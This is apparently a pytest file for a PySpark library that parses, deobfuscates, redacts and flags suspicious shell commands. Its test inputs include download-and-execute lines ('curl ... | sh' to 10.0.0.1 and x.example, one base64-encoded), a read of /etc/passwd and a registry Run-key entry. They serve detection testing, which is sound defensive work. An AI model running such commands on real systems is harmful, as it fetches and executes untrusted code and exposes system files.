"""Parsing, decoding and routing on single commands."""

import base64

from pyspark.sql import functions as F

from cmdlake.functions import decoding, parsing, routing, text
from cmdlake.sources.commands import execution_contexts


def test_parse(spark):
    rows = ["curl -o \"a b.exe\" http://10.0.0.1:8080/x | sh", "", None, "reg add HKCU\\Run /v X \"a b\" /f", "cat /etc/passwd > out.txt ; ls"]
    got = [r.p for r in spark.createDataFrame([(x,) for x in rows], "c string").select(parsing.parse(F.col("c")).alias("p")).collect()]
    assert got[0].executable == "curl" and "a b.exe" in got[0].positional_args and got[0].pipe_operators == ["|"] and got[0].ips == ["10.0.0.1"] and got[0].ports == ["8080"]
    assert got[1].executable is None and got[1].flags == []
    assert got[3].flags == ["/v", "/f"] and '"a b"' in got[3].positional_args and got[3].registry_paths == ["HKCU\\Run"]
    assert got[4].redirect_operators == [">"] and got[4].chain_operators == [";"] and "out.txt" in got[4].file_paths


def test_decode(spark):
    inner = "curl http://x.example/a | sh"
    once = base64.b64encode(inner.encode()).decode()
    ps = "powershell -enc " + base64.b64encode("Write-Host hello world".encode("utf-16-le")).decode()
    rows = ["ls -la", None, "", once, f"echo {once} | base64 -d", ps, base64.b64encode(once.encode()).decode(), '[char]65 + "b" + "c"']
    df = spark.createDataFrame(list(enumerate(rows)), "i int, command string")
    got = {r.i: r.decode for r in decoding.decode(df).collect()}
    assert [got[i].was_obfuscated for i in range(8)] == [False, False, False, True, True, True, True, True]
    assert got[3].final == inner and got[6].final == inner and got[5].final == "Write-Host hello world"
    assert inner in got[4].final and got[7].final == '"Abc"'
    assert [s.layer for s in got[6].steps][0] == 1 and got[3].stop_reason == "stable"


def test_redact(spark):
    line = "curl https://bob:pw@x.corp/ token=abc --password hunter2 10.1.2.3 /home/ann/x me@host"
    got = spark.range(1).select(text.redact(F.lit(line)).alias("x")).first().x
    for secret in ("bob", "pw@", "abc", "hunter2", "10.1.2.3", "ann", "me@host"):
        assert secret not in got


def test_route(spark):
    r = spark.range(1).select(routing.route(F.lit(0.9), routing.suspicious_features(routing.routing_features(F.lit("curl x | sh")))).alias("r")).first().r
    assert (r.label, r.confidence) == ("Suspicious", 0.9)


def test_contexts(spark):
    given = spark.createDataFrame([(" Bash ", "", "2024-01-01"), (None, None, "2024-01-01T00:00:00+01:00")], "parent_process string, role string, timestamp string")
    a, b = execution_contexts(given).select("*", F.unix_seconds("timestamp").alias("s")).collect()
    assert (a.host_id, a.parent_process, a.user, a.role, a.fleet, a.in_maintenance_window, a.s) == ("unknown", "bash", "unknown", None, "default", False, 1704067200)
    assert b.parent_process == "unknown" and b.s == 1704067200 - 3600
    n = execution_contexts(spark.createDataFrame([(1.5, "h")], "timestamp double, host_id string")).select(F.unix_millis("timestamp"), "host_id").first()
    assert n == (1500, "h")
    assert execution_contexts(spark.createDataFrame([("h",)], "host_id string")).filter("timestamp <= current_timestamp()").count() == 1


def test_changed_lines(spark):
    lines = spark.createDataFrame([("a", "ls"), ("a", "ping 10.0.0.1"), ("b", None)], "g string, line string")
    assert {r.g: (r.n_lines, r.n_changed) for r in text.changed_lines(lines, "line", "g").collect()} == {"a": (2, 1), "b": (1, 0)}
